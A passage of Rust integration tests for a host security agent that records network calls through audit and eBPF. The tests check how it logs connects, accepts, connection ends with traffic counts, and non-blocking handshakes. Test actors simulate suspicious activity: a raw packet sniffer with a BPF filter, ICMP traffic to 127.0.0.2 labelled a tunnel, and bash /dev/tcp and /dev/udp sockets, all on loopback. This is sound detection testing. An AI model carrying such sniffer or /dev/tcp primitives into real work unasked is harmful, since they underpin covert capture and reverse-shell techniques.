        .unwrap_or_else(|e| panic!("actor {args:?}: {e}: {summary} {out:?}"));
    assert!(out.status.success(), "actor {args:?}: {out:?}");
    report
}

fn port_of(v: &Value) -> u64 {
    v["port"].as_u64().unwrap_or(0)
}

#[test]
fn network_calls_name_both_ends_and_the_process() {
    network_calls_are_recorded("network_calls_name_both_ends_and_the_process", "audit");
}

#[test]
fn network_calls_are_recorded_with_ebpf() {
    network_calls_are_recorded("network_calls_are_recorded_with_ebpf", "ebpf");
}

/// The actor's connects (TCP v4 and v6, UDP, Unix, refused) and our own listeners and accepts,
/// as recorded with `network.source = source`: each with both ends, transport, result and the
/// actor's identity; then the CLI's filters and XML over them.
fn network_calls_are_recorded(test: &str, source: &str) {
    use std::net::{TcpListener, UdpSocket};
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let mut agent = Agent::start(&format!("[network]\nsource = {source:?}\n"));
    if source == "ebpf" {
        let status = agent.status();
        let ebpf = status_source(&status, "ebpf").expect("the ebpf source");
        let detail = ebpf["detail"].as_str().unwrap();
        assert!(
            detail.contains("network calls from their tracepoints"),
            "{detail}"
        );
        // No audit network rules beside them.
        if let Some(audit) = status_source(&status, "audit")
            && audit["active"] == true
        {
            let detail = audit["detail"].as_str().unwrap();
            assert!(!detail.contains("network"), "{detail}");
        }
    }
    let tcp4 = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let tcp6 = TcpListener::bind(("::1", 0)).ok();
    let udp = UdpSocket::bind(("127.0.0.1", 0)).unwrap();
    let sockets = tempfile::tempdir().unwrap();
    let unix_path = sockets.path().join("warden-e2e.sock");
    let unix = std::os::unix::net::UnixListener::bind(&unix_path).unwrap();
    let refused_port = TcpListener::bind(("127.0.0.1", 0))
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let port = |l: &TcpListener| l.local_addr().unwrap().port();
    let mut env = vec![
        ("TCP4", port(&tcp4).to_string()),
        ("UDP", udp.local_addr().unwrap().port().to_string()),
        ("UNIX", s(&unix_path)),
        ("REFUSED", refused_port.to_string()),
    ];
    if let Some(l) = &tcp6 {
        env.push(("TCP6", port(l).to_string()));
    }
    let (mut child, report) = spawn_actor(&["net"], &env);
    let (from4, _) = tcp4.accept().unwrap();
    let from6 = tcp6.as_ref().map(|l| l.accept().unwrap().0);
    let (from_unix, _) = unix.accept().unwrap();
    let pid = u64::from(child.pid());
    assert_eq!(report["pid"], pid);
    assert_eq!(report["refused"], true);
    let me = u64::from(std::process::id());
    let p4 = u64::from(port(&tcp4));
    let events = agent.wait_for("the child's connects and our accepts", |ev| {
        has(ev, "connect", |e| {
            pid_of(e) == pid && port_of(&e["destination"]) == p4
        }) && has(ev, "connect", |e| {
            pid_of(e) == pid && e["destination"]["address"] == s(&unix_path).as_str()
        }) && has(ev, "connect", |e| {
            pid_of(e) == pid && port_of(&e["destination"]) == u64::from(refused_port)
        }) && has(ev, "accept", |e| {
            pid_of(e) == me && port_of(&e["destination"]) == p4
        }) && has(ev, "accept", |e| {
            pid_of(e) == me && e["network"]["type"] == "unix"
        })
    });
    let child_entity = entity(child.pid(), start_ticks(child.pid()));

    let c4 = the(&events, "connect", "tcp4", |e| {
        pid_of(e) == pid && port_of(&e["destination"]) == p4
    });
    assert_eq!(c4["event"]["category"][0], "network");
    assert_eq!(c4["event"]["outcome"], "success");
    assert_eq!(c4["destination"]["ip"], "127.0.0.1");
    assert_eq!(c4["network"]["direction"], "egress");
    assert_eq!(c4["network"]["type"], "ipv4");
    assert_eq!(entity_of(c4), child_entity, "{c4}");
    assert_eq!(c4["process"]["parent"]["pid"], me);
    assert!(
        c4["process"]["executable"]
            .as_str()
            .is_some_and(|x| x.ends_with("/examples/actor")),
        "{c4}"
    );
    // The transport comes from the live socket (audit: borrowed later; the child keeps it
    // open). Its local port only from eBPF, read as the call returned: by the time audit's
    // record is handled the number may name a newer socket.
    assert_eq!(c4["network"]["transport"], "tcp", "{c4}");
    assert_eq!(c4["warden"]["syscall"], "connect");
    if source == "ebpf" {
        assert_eq!(c4["source"]["port"], report["tcp4"], "{c4}");
        assert_eq!(c4["source"]["ip"], "127.0.0.1", "{c4}");
        assert_eq!(c4["warden"]["source"], "ebpf", "{c4}");
    }

    if tcp6.is_some() {
        let c6 = the(&events, "connect", "tcp6", |e| {
            pid_of(e) == pid && e["destination"]["ip"] == "::1"
        });
        assert_eq!(c6["network"]["type"], "ipv6");
        assert_eq!(c6["network"]["transport"], "tcp", "{c6}");
    }
    let cu = the(&events, "connect", "udp", |e| {
        pid_of(e) == pid && e["network"]["transport"] == "udp"
    });
    assert_eq!(
        port_of(&cu["destination"]),
        u64::from(udp.local_addr().unwrap().port())
    );
    if source == "ebpf" {
        assert_eq!(cu["source"]["port"], report["udp"], "{cu}");
    } else {
        assert!(cu["source"]["port"].is_null(), "{cu}");
    }
    let cx = the(&events, "connect", "unix", |e| {
        pid_of(e) == pid && e["destination"]["address"] == s(&unix_path).as_str()
    });
    assert_eq!(cx["network"]["type"], "unix");
    assert_eq!(cx["network"]["transport"], "stream");
    let refused = the(&events, "connect", "refused", |e| {
        pid_of(e) == pid && port_of(&e["destination"]) == u64::from(refused_port)
    });
    assert_eq!(refused["event"]["outcome"], "failure");
    assert_eq!(refused["warden"]["network"]["errno"], "ECONNREFUSED");
    {
        // The sniffer's packet socket, its bind to lo and its filter; the raw ICMP socket.
        let events = agent.wait_for("the sniffer's socket, bind and filter", |ev| {
            has(ev, "filter", |e| pid_of(e) == pid)
                && has(ev, "socket", |e| {
                    pid_of(e) == pid && e["network"]["transport"] == "icmp"
                })
        });
        let sniffer = the(&events, "socket", "packet socket", |e| {
            pid_of(e) == pid && e["warden"]["network"]["family"] == 17
        });
        assert_eq!(
            sniffer["warden"]["network"]["socket_type"], "raw",
            "{sniffer}"
        );
        assert_eq!(sniffer["network"]["transport"], "all", "{sniffer}");
        assert_eq!(
            sniffer["warden"]["network"]["fd"], report["sniffer"],
            "{sniffer}"
        );
        assert_eq!(entity_of(sniffer), child_entity);
        assert!(has(&events, "bind", |e| pid_of(e) == pid
            && e["server"]["address"] == "lo"
            && e["warden"]["network"]["fd"] == report["sniffer"]));
        let filter = the(&events, "filter", "filter", |e| pid_of(e) == pid);
        let attached = &filter["warden"]["network"];
        assert_eq!(attached["filter"]["option"], "SO_ATTACH_FILTER");
        assert_eq!(attached["socket_type"], "raw", "{filter}");
        // Its length and program are in the caller's memory, which only eBPF reads: "ldh
        // [12]; ret #65535" (support/sniffer.rs), and the digest of its instructions' bytes.
        let bytes = [0x28, 0, 0, 0, 12, 0, 0, 0, 6, 0, 0, 0, 0xff, 0xff, 0, 0];
        let digest: String = <sha2::Sha256 as sha2::Digest>::digest(bytes)
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        let ebpf = source == "ebpf";
        let given = &attached["filter"];
        if ebpf {
            assert_eq!(given["instructions"], 2, "{filter}");
            assert_eq!(given["bytecode"], "2,40 0 0 12,6 0 0 65535", "{filter}");
            assert_eq!(given["hash"]["sha256"], digest.as_str(), "{filter}");
        } else {
            for field in ["instructions", "bytecode", "hash"] {
                assert!(given[field].is_null(), "{filter}");
            }
        }
        let icmp = the(&events, "socket", "raw ICMP socket", |e| {
            pid_of(e) == pid && e["network"]["transport"] == "icmp"
        });
        assert_eq!(icmp["warden"]["network"]["socket_type"], "raw", "{icmp}");
        assert_eq!(icmp["network"]["iana_number"], "1", "{icmp}");
        if ebpf {
            // Its echo request to 127.0.0.2 and the reply: each the first packet to or from
            // that peer, from the packet hooks (a raw socket's peer is in its packets).
            let tunnel = |e: &Value, way: &str| pid_of(e) == pid && e[way]["ip"] == "127.0.0.2";
            let events = agent.wait_for("the tunnel's first packets", |ev| {
                has(ev, "send", |e| tunnel(e, "destination"))
                    && has(ev, "receive", |e| tunnel(e, "source"))
            });
            let sent = the(&events, "send", "the echo request", |e| {
                tunnel(e, "destination")
            });
            assert_eq!(sent["network"]["transport"], "icmp", "{sent}");
            assert_eq!(sent["network"]["direction"], "egress", "{sent}");
            assert_eq!(sent["source"]["ip"], "127.0.0.1", "{sent}");
            assert_eq!(entity_of(sent), child_entity, "{sent}");
            let icmp = &sent["warden"]["network"]["icmp"];
            assert_eq!(
                (&icmp["type"], &icmp["name"]),
                (&serde_json::json!(8), &serde_json::json!("echo-request"))
            );
            let reply = the(&events, "receive", "the echo reply", |e| {
                tunnel(e, "source")
            });
            assert_eq!(reply["network"]["direction"], "ingress", "{reply}");
            assert_eq!(reply["destination"]["ip"], "127.0.0.1", "{reply}");
            assert_eq!(entity_of(reply), child_entity, "{reply}");
            assert_eq!(
                reply["warden"]["network"]["icmp"]["name"], "echo-reply",
                "{reply}"
            );
            let pid_text = pid.to_string();
            let text = agent.events_output(&["--class", "send", "--pid", &pid_text], "text");
            assert!(
                text.contains("127.0.0.2:0 icmp icmp=echo-request"),
                "{text}"
            );
        }
        let text = agent.events_output(
            &["--class", "socket,filter", "--pid", &pid.to_string()],
            "text",
        );
        assert!(text.contains("socket AF_PACKET raw all success"), "{text}");
        let filtered = if ebpf {
            format!(
                "filter AF_PACKET raw SO_ATTACH_FILTER instructions=2 sha256={} success",
                &digest[..12]
            )
        } else {
            "filter AF_PACKET raw SO_ATTACH_FILTER success".into()
        };
        assert!(text.contains(&filtered), "{text}");
        // The same in SQL.
        let rows = agent.query_rows(&format!(
            "SELECT filter_option, filter_instructions, filter_sha256, \
             filter_bytecode = '2,40 0 0 12,6 0 0 65535' \
             FROM socket_events WHERE action = 'filter' AND pid = {pid}"
        ));
        let row = if ebpf {
            format!("SO_ATTACH_FILTER,2,{digest},1")
        } else {
            "SO_ATTACH_FILTER,,,".into()
        };
        assert_eq!(rows, [row]);
    }
    // Our own side: the listeners' bind/listen and the accepted connection's peer.
    let accepted = the(&events, "accept", "tcp4 accept", |e| {
        pid_of(e) == me && port_of(&e["destination"]) == p4
    });
    // The peer from the record; this host's end from the listening socket.
    assert_eq!(accepted["source"]["port"], report["tcp4"]);
    assert_eq!(accepted["destination"]["ip"], "127.0.0.1");
    assert_eq!(accepted["network"]["transport"], "tcp");
    assert_eq!(accepted["network"]["direction"], "ingress");
    assert!(has(&events, "listen", |e| pid_of(e) == me
        && port_of(&e["server"]) == p4));
    assert!(has(&events, "bind", |e| pid_of(e) == me
        && e["server"]["address"] == s(&unix_path).as_str()));
    // The Unix listener's path, though listen and accept name no address: read from the socket.
    assert!(has(&events, "listen", |e| pid_of(e) == me
        && e["server"]["address"] == s(&unix_path).as_str()));
    let unix_accept = the(&events, "accept", "unix accept", |e| {
        pid_of(e) == me && e["network"]["type"] == "unix"
    });
    assert_eq!(
        unix_accept["destination"]["address"],
        s(&unix_path).as_str()
    );

    // The CLI's network filters over the same store.
    let by_port = agent.events(&["--class", "nt", "--port", &p4.to_string()]);
    assert!(!by_port.is_empty());
    assert!(by_port.iter().all(|e| {
        e["event"]["category"][0] == "network"
            && [&e["source"], &e["destination"], &e["server"]]
                .iter()
                .any(|end| port_of(end) == p4)
    }));
    let failures = agent.events(&["--class", "nt", "--failure", "--pid", &pid.to_string()]);
    assert_eq!(failures.len(), 1, "{failures:?}");
    if tcp6.is_some() {
        let v6 = agent.events(&["--addr", "::1/128", "--pid", &pid.to_string()]);
        assert!(!v6.is_empty() && v6.iter().all(|e| e["destination"]["ip"] == "::1"));
    }

    // praudit-style XML of the child's events parses with a real parser, one record each.
    let xml = agent.events_output(&["--pid", &pid.to_string()], "xml");
    let doc = roxmltree::Document::parse(&xml).unwrap_or_else(|e| panic!("{e}: {xml}"));
    let records: Vec<_> = doc
        .root_element()
        .children()
        .filter(|n| n.has_tag_name("record"))
        .collect();
    let json = agent.events(&["--pid", &pid.to_string()]);
    assert_eq!(records.len(), json.len());
    assert!(
        records
            .iter()
            .any(|r| r.attribute("action") == Some("connect")
                && r.children().any(|c| c.has_tag_name("socket")
                    && c.attribute("remote_port") == Some(p4.to_string().as_str())))
    );

    drop((from4, from6, from_unix));
    child.child.stdin.take();
    assert!(child.wait().success());
    agent.stop();
    kernel.check();
}

/// A shell script for [`bash_to_port`]: connects, sends 5,000 bytes, reads a line and exits.
const SEND_5000_READ_A_LINE: &str =
    "exec 3<>/dev/tcp/127.0.0.1/$0; printf '%05000d' 0 >&3; read -r -u 3 line";

/// bash running `script`, with `port` as its `$0` (for its `/dev/tcp` or `/dev/udp`): the
/// child, its pid and its entity (read while it runs or waits to be reaped).
fn bash_to_port(script: &str, port: u16) -> (std::process::Child, u64, String) {
    let child = Command::new("/bin/bash")
        .args(["-c", script])
        .arg(port.to_string())
        .spawn()
        .unwrap();
    let pid = child.id();
    (child, u64::from(pid), entity(pid, start_ticks(pid)))
}

/// A TCP connection's end is recorded as a `close` for the process that made it, after that
/// process exited (its kernel closed the socket as it went), and for ours that took it: the
/// bytes each way from each side, its duration and how it closed; in JSON, text, XML and SQL.
/// One still open as the agent stops is recorded as `traffic` so far.
#[test]
fn a_connections_end_is_recorded_with_its_traffic_after_its_process_exits() {
    connection_ends_are_recorded(
        "a_connections_end_is_recorded_with_its_traffic_after_its_process_exits",
        "ebpf",
    );
}

/// The same with audit's network calls: the ends from the kernel's socket diagnostics, as it
/// destroys the sockets; how a connection closed is not said.
#[test]
fn a_connections_end_is_recorded_with_its_traffic_with_audit() {
    connection_ends_are_recorded(
        "a_connections_end_is_recorded_with_its_traffic_with_audit",
        "audit",
    );
}

fn connection_ends_are_recorded(test: &str, source: &str) {
    use std::io::{Read, Write};
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let mut agent = Agent::start(&format!("[network]\nsource = {source:?}\n"));
    let ebpf = source == "ebpf";
    if ebpf {
        let detail = agent.source_detail("ebpf");
        assert!(
            detail.contains("TCP connections' ends with their traffic, likewise (also of the ")
                && detail.contains(
                    " ms), and those still open with their traffic so far every \
                     10m and as the agent stops"
                ),
            "{detail}"
        );
    } else {
        let detail = agent.source_detail("sock_diag");
        assert!(
            detail.contains(
                "the ends of the TCP connections audit records, with their traffic, as the \
                 kernel destroys their sockets; those still open every 10m and as the agent \
                 stops"
            ),
            "{detail}"
        );
    }
    let listener = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    // 5,000 bytes up, a line back, and out: the kernel closes the socket at the exit.
    let (mut child, pid, child_entity) = bash_to_port(SEND_5000_READ_A_LINE, port);
    let (mut accepted, _) = listener.accept().unwrap();
    accepted.read_exact(&mut [0; 5_000]).unwrap();
    accepted.write_all(b"hello\n").unwrap();
    assert!(child.wait().unwrap().success());
    assert_eq!(accepted.read(&mut [0; 1]).unwrap(), 0, "the exit's FIN");
    drop(accepted);

    let me = u64::from(std::process::id());
    let events = agent.wait_for("both ends' close", |ev| {
        has(ev, "close", |e| pid_of(e) == pid) && has(ev, "close", |e| pid_of(e) == me)
    });
    let theirs = the(&events, "close", "the child's end", |e| pid_of(e) == pid);
    assert_eq!(entity_of(theirs), child_entity, "{theirs}");
    assert_eq!(theirs["event"]["type"][0], "end");
    assert_eq!(theirs["event"]["outcome"], "success", "{theirs}");
    assert_eq!(theirs["network"]["direction"], "egress");
    assert_eq!(theirs["destination"]["port"], u64::from(port));
    assert_eq!(theirs["source"]["bytes"], 5_000, "{theirs}");
    assert_eq!(theirs["destination"]["bytes"], 6, "{theirs}");
    assert_eq!(theirs["warden"]["network"]["fd"], 3);
    assert!(theirs["warden"]["syscall"].is_null(), "no call: {theirs}");
    let told_by = if ebpf { "ebpf" } else { "sock_diag" };
    assert_eq!(theirs["warden"]["source"], told_by, "{theirs}");
    let duration = theirs["event"]["duration"].as_u64().unwrap();
    assert!(duration > 0 && duration < 60_000_000_000, "{theirs}");
    // It closed after the process exited: the end is recorded after its exit.
    let exit = the(&events, "exit", "the child's exit", |e| pid_of(e) == pid);
    let when = |e: &Value| e["@timestamp"].as_str().unwrap().to_owned();
    assert!(when(exit) <= when(theirs), "{exit}\n{theirs}");

    let ours = the(&events, "close", "our end", |e| pid_of(e) == me);
    assert_eq!(ours["network"]["direction"], "ingress");
    assert_eq!(ours["source"]["bytes"], 5_000, "the peer sent: {ours}");
    assert_eq!(ours["destination"]["bytes"], 6, "{ours}");
    // How it closed: the state change says; a destroyed socket's diagnostics do not.
    let state = &ours["warden"]["network"]["traffic"]["state"];
    if ebpf {
        assert_eq!(*state, "LAST_ACK");
    } else {
        assert!(state.is_null(), "{ours}");
    }

    let text = agent.events_output(&["--class", "close", "--pid", &pid.to_string()], "text");
    assert!(
        text.contains(&format!(":{port} tcp sent=5000 received=6 duration=")),
        "{text}"
    );
    let xml = agent.events_output(&["--class", "close", "--pid", &me.to_string()], "xml");
    let doc = roxmltree::Document::parse(&xml).unwrap_or_else(|e| panic!("{e}: {xml}"));
    let traffic = doc
        .descendants()
        .find(|n| n.has_tag_name("traffic"))
        .unwrap_or_else(|| panic!("{xml}"));
    assert_eq!(
        (traffic.attribute("sent"), traffic.attribute("received")),
        (Some("6"), Some("5000"))
    );
    let rows = agent.query_rows(&format!(
        "SELECT pid, bytes_sent, bytes_received, direction FROM socket_events \
         WHERE action = 'close' AND remote_port = {port}"
    ));
    assert_eq!(rows, [format!("{pid},5000,6,egress")]);

    // Ours, still open as the agent stops: its traffic so far, from both sides.
    let mut held = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    let held_port = u64::from(held.local_addr().unwrap().port());
    let (mut taken, _) = listener.accept().unwrap();
    held.write_all(&[1; 300]).unwrap();
    taken.read_exact(&mut [0; 300]).unwrap();
    // (Audit's connect does not name its own port.)
    agent.wait_for("the held connection's connect", |ev| {
        has(ev, "connect", |e| {
            pid_of(e) == me && port_of(&e["destination"]) == u64::from(port)
        })
    });
    agent.stop();
    let looks = agent.events(&["--class", "traffic", "--pid", &me.to_string()]);
    let up = the(&looks, "traffic", "the held connection", |e| {
        port_of(&e["source"]) == held_port && e["network"]["direction"] == "egress"
    });
    assert_eq!(up["source"]["bytes"], 300, "{up}");
    assert_eq!(up["event"]["type"][0], "info");
    assert_eq!(up["warden"]["network"]["traffic"]["state"], "ESTABLISHED");
    let down = the(&looks, "traffic", "the taken connection", |e| {
        port_of(&e["source"]) == held_port && e["network"]["direction"] == "ingress"
    });
    assert_eq!(down["destination"]["bytes"], 0, "{down}");
    assert_eq!(down["source"]["bytes"], 300, "{down}");
    drop((held, taken));
    kernel.check();
}

/// A connection made before the agent started (by a process that also started before it) is
/// found as the agent starts: its end is recorded for that process, marked found open, with
/// the whole connection's traffic, the side that connected told from the side that accepted;
/// in JSON, text and SQL. UDP sockets made before the start likewise, with their traffic from
/// the start.
#[test]
fn a_connection_made_before_the_agent_started_is_recorded_as_it_ends() {
    connections_made_before_the_start(
        "a_connection_made_before_the_agent_started_is_recorded_as_it_ends",
        "ebpf",
    );
}

/// The same with audit's network calls: the TCP connections found by the kernel's socket
/// diagnostics and /proc (no UDP sockets: their traffic is eBPF's).
#[test]
fn a_connection_made_before_the_agent_started_is_recorded_as_it_ends_with_audit() {
    connections_made_before_the_start(
        "a_connection_made_before_the_agent_started_is_recorded_as_it_ends_with_audit",
        "audit",
    );
}

fn connections_made_before_the_start(test: &str, source: &str) {
    use std::io::{Read, Write};
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let ebpf = source == "ebpf";
    let listener = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    let (mut child, pid, child_entity) = bash_to_port(SEND_5000_READ_A_LINE, port);
    let (mut accepted, _) = listener.accept().unwrap();
    accepted.read_exact(&mut [0; 5_000]).unwrap();
    // And a UDP client connected to a server of ours, both made before the start.
    let udp_server = std::net::UdpSocket::bind(("127.0.0.1", 0)).unwrap();
    let udp_port = udp_server.local_addr().unwrap().port();
    let udp_client = std::net::UdpSocket::bind(("127.0.0.1", 0)).unwrap();
    udp_client.connect(("127.0.0.1", udp_port)).unwrap();

    let mut agent = Agent::start(&format!("[network]\nsource = {source:?}\n"));
    let detail = agent.source_detail(if ebpf { "ebpf" } else { "sock_diag" });
    assert!(detail.contains("found open at the start"), "{detail}");
    assert_eq!(detail.contains("found open then"), ebpf, "{detail}");
    udp_client.send(&[5; 700]).unwrap();
    assert_eq!(udp_server.recv(&mut [0; 1_000]).unwrap(), 700);
    let udp_fd = i64::from(std::os::fd::AsRawFd::as_raw_fd(&udp_client));
    drop((udp_client, udp_server));
    accepted.write_all(b"hello\n").unwrap();
    assert!(child.wait().unwrap().success());
    assert_eq!(accepted.read(&mut [0; 1]).unwrap(), 0, "the exit's FIN");
    drop(accepted);

    let me = u64::from(std::process::id());
    let ours_to = |e: &Value| pid_of(e) == me && port_of(&e["destination"]) == u64::from(port);
    let events = agent.wait_for("both ends' close", |ev| {
        has(ev, "close", |e| pid_of(e) == pid) && has(ev, "close", ours_to)
    });
    let theirs = the(&events, "close", "the child's end", |e| pid_of(e) == pid);
    assert_eq!(entity_of(theirs), child_entity, "{theirs}");
    assert_eq!(
        theirs["warden"]["network"]["traffic"]["found_open"], true,
        "{theirs}"
    );
    assert_eq!(theirs["network"]["direction"], "egress", "{theirs}");
    assert_eq!(
        theirs["source"]["bytes"], 5_000,
        "sent before the start: {theirs}"
    );
    assert_eq!(theirs["destination"]["bytes"], 6, "{theirs}");
    assert_eq!(theirs["warden"]["network"]["fd"], 3);
    let ours = the(&events, "close", "our end", ours_to);
    assert_eq!(
        ours["warden"]["network"]["traffic"]["found_open"], true,
        "{ours}"
    );
    assert_eq!(ours["network"]["direction"], "ingress", "{ours}");
    assert_eq!(ours["source"]["bytes"], 5_000, "the peer sent: {ours}");

    let text = agent.events_output(&["--class", "close", "--pid", &pid.to_string()], "text");
    assert!(
        text.contains(&format!(":{port} tcp sent=5000 received=6 duration>="))
            && text.contains("found_open"),
        "{text}"
    );
    let rows = agent.query_rows(&format!(
        "SELECT pid, found_open, direction FROM socket_events \
         WHERE action = 'close' AND remote_port = {port}"
    ));
    assert_eq!(rows, [format!("{pid},1,egress")]);

    if !ebpf {
        agent.stop();
        kernel.check();
        return;
    }
    // The UDP sockets' ends: their traffic since the start, each way.
    let udp_to = |e: &Value| {
        pid_of(e) == me
            && e["network"]["transport"] == "udp"
            && port_of(&e["destination"]) == u64::from(udp_port)
    };
    let events = agent.wait_for("both UDP sockets' close", |ev| {
        ev.iter()
            .filter(|e| e["event"]["action"] == "close" && udp_to(e))
            .count()
            == 2
    });
    let client = the(&events, "close", "the UDP client's end", |e| {
        udp_to(e) && e["network"]["direction"] == "egress"
    });
    assert_eq!(
        client["warden"]["network"]["traffic"]["found_open"], true,
        "{client}"
    );
    assert_eq!(client["source"]["bytes"], 700, "{client}");
    assert_eq!(client["warden"]["network"]["fd"], udp_fd, "{client}");
    let rows = agent.query_rows(&format!(
        "SELECT found_open, direction, bytes_sent, bytes_received FROM socket_events \
         WHERE action = 'close' AND transport = 'udp' AND pid = {me} \
         AND (local_port = {udp_port} OR remote_port = {udp_port}) ORDER BY direction"
    ));
    assert_eq!(rows, ["1,egress,700,0", "1,ingress,0,700"]);
    agent.stop();
    kernel.check();
}

/// A datagram socket's traffic is recorded as it is released: a UDP datagram a shell sent over
/// `/dev/udp` before it exited is a `close` of its socket, for the shell, with the bytes and
/// datagrams each way and no TCP state; and of ours that took it; in JSON, text and SQL.
#[test]
fn a_datagram_sockets_traffic_is_recorded_at_its_end() {
    let test = "a_datagram_sockets_traffic_is_recorded_at_its_end";
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let mut agent = Agent::start("[network]\nsource = \"ebpf\"\n");
    let detail = agent.source_detail("ebpf");
    assert!(
        detail.contains("each datagram socket's traffic (UDP, ICMP, raw) at its end"),
        "{detail}"
    );
    let server = std::net::UdpSocket::bind(("127.0.0.1", 0)).unwrap();
    let port = server.local_addr().unwrap().port();
    let (mut child, pid, child_entity) = bash_to_port(
        "exec 3<>/dev/udp/127.0.0.1/$0; printf '%01000d' 0 >&3; printf x >&3",
        port,
    );
    let mut buf = [0; 2048];
    assert_eq!(server.recv(&mut buf).unwrap(), 1_000);
    assert_eq!(server.recv(&mut buf).unwrap(), 1);
    assert!(child.wait().unwrap().success());
    drop(server);

    let me = u64::from(std::process::id());
    let ours = |e: &Value| pid_of(e) == me && port_of(&e["destination"]) == u64::from(port);
    let events = agent.wait_for("both sockets' close", |ev| {
        has(ev, "close", |e| pid_of(e) == pid) && has(ev, "close", ours)
    });
    let theirs = the(&events, "close", "the shell's socket", |e| pid_of(e) == pid);
    assert_eq!(entity_of(theirs), child_entity, "{theirs}");
    assert_eq!(theirs["network"]["transport"], "udp", "{theirs}");
    assert_eq!(theirs["network"]["direction"], "egress", "{theirs}");
    assert_eq!(theirs["destination"]["port"], u64::from(port), "{theirs}");
    assert_eq!(theirs["source"]["bytes"], 1_001, "{theirs}");
    assert_eq!(theirs["source"]["packets"], 2, "{theirs}");
    assert_eq!(theirs["destination"]["bytes"], 0, "{theirs}");
    assert!(
        theirs["warden"]["network"]["traffic"]
            .get("state")
            .is_none(),
        "no TCP state: {theirs}"
    );
    let ours = the(&events, "close", "our socket", ours);
    assert_eq!(ours["network"]["direction"], "ingress", "{ours}");
    assert_eq!(ours["source"]["bytes"], 1_001, "the peer sent: {ours}");

    let text = agent.events_output(&["--class", "close", "--pid", &pid.to_string()], "text");
    assert!(
        text.contains(&format!(":{port} udp sent=1001 received=0 duration="))
            && !text.contains("state="),
        "{text}"
    );
    let rows = agent.query_rows(&format!(
        "SELECT pid, bytes_sent, state IS NULL, direction FROM socket_events \
         WHERE action = 'close' AND remote_port = {port}"
    ));
    assert_eq!(rows, [format!("{pid},1001,1,egress")]);
    agent.stop();
    kernel.check();
}

/// A non-blocking connect returns EINPROGRESS with its handshake under way. With eBPF its
/// outcome is recorded as the handshake ends, for the connecting process and with both ends:
/// established late, timed out, abandoned — each a `connect_result` after the connect that
/// said `EINPROGRESS` — or, when it ended inside the call (a refusal on loopback), in the
/// connect itself; never both.
#[test]
fn non_blocking_connects_are_recorded_with_their_outcome() {
    let test = "non_blocking_connects_are_recorded_with_their_outcome";
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let mut agent = Agent::start("[network]\nsource = \"ebpf\"\n");
    let detail = agent.source_detail("ebpf");
    assert!(
        detail.contains("non-blocking connects' outcomes from TCP state changes"),
        "{detail}"
    );
    let (mut child, report, pid, child_entity) = run_handshakes_actor();
    let port = |key: &str| report_port(&report, key);
    let (late, timed_out, abandoned) = (port("late"), port("timed_out"), port("abandoned"));
    let refused_to = port("refused_to");
    let from = |local: u64| move |e: &Value| pid_of(e) == pid && port_of(&e["source"]) == local;
    let explain = |events: &[Value]| {
        format!(
            " (ports: late {late}, timed out {timed_out}, abandoned {abandoned}){}",
            handshakes_seen(&agent, events, pid)
        )
    };
    let events = agent.wait_for_explained(
        &[],
        "the handshakes' results",
        HANDSHAKES_WAIT,
        |ev| {
            [late, timed_out, abandoned]
                .into_iter()
                .all(|local| has(ev, "connect_result", from(local)))
        },
        explain,
    );

    for (local, what) in [
        (late, "late"),
        (timed_out, "timed out"),
        (abandoned, "abandoned"),
    ] {
        let connect = the(&events, "connect", what, from(local));
        assert_eq!(connect["event"]["outcome"], "success", "{connect}");
        assert_eq!(
            connect["warden"]["network"]["errno"], "EINPROGRESS",
            "{connect}"
        );
        assert_eq!(
            connect["warden"]["syscall_exit"],
            -libc::EINPROGRESS,
            "{connect}"
        );
        let result = the(&events, "connect_result", what, from(local));
        assert_result_of(result, connect, &child_entity);
        assert_eq!(result["source"]["ip"], "127.0.0.1", "{result}");
        assert_eq!(result["network"]["direction"], "egress", "{result}");
        let (outcome, errno) = (
            &result["event"]["outcome"],
            &result["warden"]["network"]["errno"],
        );
        match what {
            "late" => assert!(outcome == "success" && errno.is_null(), "{result}"),
            "timed out" => assert!(outcome == "failure" && errno == "ETIMEDOUT", "{result}"),
            _ => assert!(outcome == "failure" && errno.is_null(), "{result}"),
        }
    }
    // The refusal: recorded once, in the connect (on loopback it comes inside the call) or
    // as its result.
    let to_refused = |e: &&Value| pid_of(e) == pid && port_of(&e["destination"]) == refused_to;
    let refusals: Vec<&Value> = events.iter().filter(to_refused).collect();
    let failed: Vec<&&Value> = refusals
        .iter()
        .filter(|e| e["event"]["outcome"] == "failure")
        .collect();
    assert_eq!(failed.len(), 1, "{refusals:?}");
    assert_eq!(failed[0]["warden"]["network"]["errno"], "ECONNREFUSED");
    // The CLI's class of results: the three, and the refusal's when it came apart.
    let results = agent.events(&["--class", "connect_result", "--pid", &pid.to_string()]);
    let apart = usize::from(action(failed[0]) == "connect_result");
    assert_eq!(results.len(), 3 + apart, "{results:?}");

    child.child.stdin.take();
    assert!(child.wait().success());
    agent.stop();
    kernel.check();
}

/// With audit, a non-blocking connect's record ends at its `EINPROGRESS`: the agent follows
/// the socket (borrowed from the process, read with `TCP_INFO`, its error left alone) until the
/// handshake ends, and records the end as eBPF does, as a `connect_result`: established late
/// with this host's end, timed out and refused as failures without an errno (the agent does
/// not take the process's error to learn it). Before, such a connect stayed "in progress".
#[test]
fn non_blocking_connects_are_followed_to_their_end_with_audit() {
    let test = "non_blocking_connects_are_followed_to_their_end_with_audit";
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let mut agent = Agent::start("[network]\nsource = \"audit\"\n");
    // The actor takes its sockets' errors itself: the agent's looks leave them to it.
    let (mut child, report, pid, child_entity) = run_handshakes_actor();
    let port = |key: &str| report_port(&report, key);
    let (late, late_to) = (port("late"), port("late_to"));
    let (silent_to, refused_to) = (port("silent_to"), port("refused_to"));
    let to = |peer: u64| move |e: &Value| pid_of(e) == pid && port_of(&e["destination"]) == peer;
    let failed = |e: &Value| e["event"]["outcome"] == "failure";
    let events = agent.wait_for_explained(
        &[],
        "the handshakes' ends",
